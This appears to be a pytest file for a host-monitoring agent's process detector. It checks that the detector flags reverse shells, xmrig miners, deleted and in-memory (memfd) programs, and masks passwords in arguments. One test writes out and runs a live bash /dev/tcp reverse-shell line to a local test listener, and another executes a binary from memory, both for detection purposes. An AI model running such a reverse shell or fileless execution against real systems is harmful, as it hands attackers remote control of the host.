from __future__ import annotations

import asyncio
import os
import shutil
import signal
import subprocess
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from agent.clock import host_clock
from agent.sources.programs.processes import Away, Processes, ProcessesSettings

if TYPE_CHECKING:
    from collections.abc import Callable, Coroutine
    from contextlib import AbstractAsyncContextManager

    from agent.sources.rounds.matters import Finding
    from tests.agent.sources.conftest import ProcTree

# One table of processes: a shell that another test opens would be found here too.
pytestmark = pytest.mark.xdist_group("host-processes")
NOON = datetime(2026, 3, 2, 4, tzinfo=UTC)


def look(source: Processes, now: datetime = NOON, *, alone: bool = False) -> list[Finding]:
    return list(source.look(now, Away(), alone=alone).findings)


def on(tree: ProcTree, **settings: Any) -> Processes:  # noqa: ANN401 - fields of the settings
    return Processes(ProcessesSettings(**settings), state=None, root=tree.root)


def test_shells_are_told_by_where_they_are_typed_into_from(tree: ProcTree) -> None:
    tree.connection(7)
    for _ in range(2):
        tree.process("/usr/bin/bash", arguments="bash -i", stdio=("socket:[7]", "socket:[7]", "socket:[7]"))
    (finding,) = look(on(tree))

    assert (finding.klass, finding.key, finding.count) == ("NABACKDOOR", "processes:shell:203.0.113.9", 2)
    assert (finding.source_address, finding.target_address) == ("203.0.113.9", "10.1.2.3")
    assert finding.evidence[0] | {"pid": 0, "uid": 0} == {
        "pid": 0,
        "name": "bash",
        "program": "/usr/bin/bash",
        "arguments": "bash -i",
        "uid": 0,
        "parent": "1",
        "why": "stdio",
        "protocol": "tcp",
        "local_address": "10.1.2.3",
        "local_port": 50000,
        "remote_address": "203.0.113.9",
        "remote_port": 4444,
    }


def test_a_miner_counts_as_busy_by_what_it_took_between_two_looks(tree: ProcTree) -> None:
    source = on(tree)
    pid = tree.process("/opt/xmrig", cpu=100.0)
    assert look(source) == []
    tree.spend(pid, 112.0, "xmrig")
    (finding,) = look(source, NOON + timedelta(seconds=15))

    assert (finding.klass, finding.key, finding.severity_hint) == (
        "MPMINER",
        "processes:miner:/opt/xmrig",
        "medium",
    )
    assert look(source, NOON + timedelta(seconds=30)) == []


def test_one_look_alone_goes_by_the_whole_life_of_a_process(tree: ProcTree) -> None:
    """Started 50 s after 1772400000, it has used 800 s of the 1000 s since."""
    tree.process("/opt/xmrig", cpu=800.0)
    at = datetime.fromtimestamp(1772400000 + 1050, UTC)

    assert [one.klass for one in look(on(tree), at, alone=True)] == ["MPMINER"]
    assert look(on(tree), at + timedelta(hours=9), alone=True) == []


def test_a_program_an_operator_allows_is_not_told(tree: ProcTree) -> None:
    tree.process("/memfd:agent (deleted)")

    assert [one.klass for one in look(on(tree))] == ["NAHACKED"]
    assert look(on(tree, allow=("/memfd:agent",))) == []
    assert look(on(tree, allow=("/opt/*", "/memfd:a*"))) == []
    assert [one.klass for one in look(on(tree, allow=("/memfd:b*",)))] == ["NAHACKED"]


def test_passwords_on_a_command_line_stay_here(tree: ProcTree) -> None:
    tree.process("/memfd:x (deleted)", arguments="x --user root --password=hunter2 -token abc")
    (finding,) = look(on(tree))

    assert finding.evidence[0]["arguments"] == "x --user root --password=*** -token ***"


async def test_the_host_at_hand_has_no_remote_shell() -> None:
    reading = await Processes(state=None).once(host_clock().now())

    assert [one.body for one in reading.observations if one.body["class"] == "NABACKDOOR"] == []


def test_a_real_program_that_was_deleted_is_told(tmp_path: Path) -> None:
    program = tmp_path / ".hidden"
    shutil.copy(shutil.which("sleep") or "", program)
    with subprocess.Popen([program, "60"]) as child:
        program.unlink()
        found = look(Processes(state=None), host_clock().now())
        child.kill()

    assert [one.severity_hint for one in found if one.target == str(program)] == ["high"]


def test_a_real_program_in_memory_is_told() -> None:
    memory = os.memfd_create("payload", 0)
    os.write(memory, Path(shutil.which("sleep") or "").read_bytes())
    child = os.posix_spawn(f"/proc/{os.getpid()}/fd/{memory}", ["sleep", "60"], os.environ)
    try:
        found = look(Processes(state=None), host_clock().now())
    finally:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)
        os.close(memory)

    assert [one.klass for one in found if one.target == "/memfd:payload"] == ["NAHACKED"]


@pytest.mark.root
def test_a_real_reverse_shell_is_told_while_it_lives_and_then_over(
    own_network: Callable[[Callable[[], Coroutine[Any, Any, None]]], None],
    watching: Callable[..., AbstractAsyncContextManager[Any]],
    tmp_path: Path,
) -> None:
    """bash itself, to an address of its own: what every handbook of intruders begins with."""

    async def attack() -> None:
        run("ip", "address", "add", "198.51.100.7/32", "dev", "lo")
        intruder: asyncio.Queue[asyncio.StreamWriter] = asyncio.Queue()
        listener = await asyncio.start_server(
            lambda _, writer: intruder.put_nowait(writer), "198.51.100.7", 4444
        )
        line = "exec bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"
        source = Processes(ProcessesSettings(poll=0.05), state=tmp_path)
        child = await asyncio.create_subprocess_exec("bash", "-c", line)
        async with watching(source) as heard:
            began = await heard.until(lambda one: one.body.get("class") == "NABACKDOOR")
            (await intruder.get()).close()
            await child.wait()
            over = await heard.until(lambda one: one.body.get("restored"))
        listener.close()

        assert began.body["source_address"] == "198.51.100.7"
        assert began.body["evidence"][0]["pid"] == child.pid
        assert over.body["key"] == began.body["key"]

    own_network(attack)


def run(*words: str) -> None:
    subprocess.run(words, check=True, capture_output=True)
